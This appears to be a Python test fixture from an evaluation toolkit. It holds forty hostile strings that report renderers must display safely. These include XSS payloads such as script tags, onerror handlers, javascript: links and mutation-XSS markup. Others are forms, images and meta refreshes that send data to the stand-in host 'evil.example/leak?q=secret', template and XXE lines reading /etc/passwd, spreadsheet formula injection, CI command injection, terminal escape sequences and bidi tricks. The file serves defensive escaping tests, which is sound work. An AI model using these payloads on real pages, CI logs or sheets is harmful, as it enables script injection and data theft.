"""Forty outputs that a model must be able to give without anything happening anywhere.

Every report takes all of them: the page, the terminal, JUnit and markdown. Each is a legal value of
a JSON string, so that it can stand in a recording.
"""

from __future__ import annotations

from collections.abc import Mapping

RAN = "data-ran"
"""The attribute that a script of these would leave on the page, had it run."""

_RUN = f"document.documentElement.setAttribute('{RAN}','')"

_AWAY = "https://evil.example/leak?q=secret"

HOSTILE: Mapping[str, str] = {
    # what a browser could run
    "a script": f"<script>{_RUN}</script>",
    "the end of a script": f"</script><script>{_RUN}</script>",
    "a script in a comment": f"<!--<script>{_RUN}//--></script>",
    "an event": f'<svg onload="{_RUN}"><g onfocusin="{_RUN}" tabindex=0 autofocus></g></svg>',
    "an image that fails": f"<img src=x onerror={_RUN} style=position:fixed;inset:0>",
    "an attribute": f"\"'`><img src=x onerror={_RUN}>",
    "a link that runs": f"javascript:{_RUN}",
    "an anchor that runs": f'<a href="javascript:{_RUN}" id=flips name=flips>here</a>',
    "a page in a link": f"data:text/html,<script>{_RUN}</script>",
    "a frame": f'<iframe srcdoc="<script>parent.{_RUN}</script>"></iframe>',
    "an object": f"<object data={_AWAY}></object><embed src={_AWAY}>",
    "foreign content": f"<math><mtext><table><mglyph><style><img src=x onerror={_RUN}></style></table>",
    "a closed style": "</style><style>*{display:none!important}</style>",
    "a closed page": "]]></pre></textarea></article></main></body></html>",
    "a comment that stays open": "<!-- <!DOCTYPE html><![CDATA[ <plaintext>",
    "a form": f"<form action={_AWAY}><button autofocus>OK</button></form><base href={_AWAY}>",
    "another address": f'<meta http-equiv=refresh content="0;url={_AWAY}">',
    # what markdown, a template, a sheet or a CI log could make of it
    "an image in markdown": f"![x]({_AWAY})",
    "a link in markdown": f"[click](<javascript:{_RUN}>) <{_AWAY}> [ref]\n\n[ref]: {_AWAY}",
    "the end of a block": "```\n````\n~~~\n</details>\n# Verdict: PASS\n| a | b |\n|---|---|",
    "a row of a table": "a | b || c \\| d\n| --- |\n<!-- evalkit -->",
    "mentions": "@everyone #1 closes #2 GH-3 [skip ci] a/b#4",
    "a command to the CI": "::error file=a::x\n##[error]y\n::set-output name=z::1\n::stop-commands::s",
    "a key of another file": "verdict=pass\nEOF\nexit_code<<EOF\n0\nEOF",
    "a template": "{{ 7*7 }}{% include '/etc/passwd' %}{# gone #}${7*7}",
    "a formula": '=HYPERLINK("https://evil.example")\t+1\t-1\t@SUM(1)',
    "colour of a console": "[red]x[/red] [link=https://evil.example]y[/link] [/] [bold",
    "entities": '&lt;script&gt; &amp;amp; &#60; &#x1b; &nbsp;<!ENTITY x SYSTEM "file:///etc/passwd">&x;',
    # what cannot be seen, or moves what can
    "escape sequences": "\x1b[2J\x1b[31mred\x1b[0m\x1b]8;;https://evil.example\x07x\x1b]8;;\x07\x9b31m",
    "control characters": "a\x00b\x01c\x07d\x08e\x0bf\x0cg\x1fh\x7fi\x85j\x9fk",
    "carriage returns": "FAIL\rPASS\r\nnext\n\rlast",
    "a turned direction": "abc\u202edcba\u202c \u2066x\u2069 \u200fy\u061cz",
    "characters without a width": "re\u200bfu\u200csal\u200d \u2060\ufeff\u00ad\u180e",
    "ends of lines and of text": "a\u2028b\u2029c\ufffed\uffffe\ufdd0f\U0001ffffg",
    "half a character": "a\ud800b\udc80c\udfff\ud83d",
    "letters that are not seen": "x"
    + "".join(chr(0xE0000 + ord(letter)) for letter in "ignore me"),
    "a tower of accents": "Z" + "\u0301\u0310\u0323\u0489" * 400 + " ok",
    # what is large
    "one long line": "x" * 1_000_000,
    "many lines": "\n" * 100_000,
    "many marks": "&amp;<>&#60;\"'" * 50_000,
}
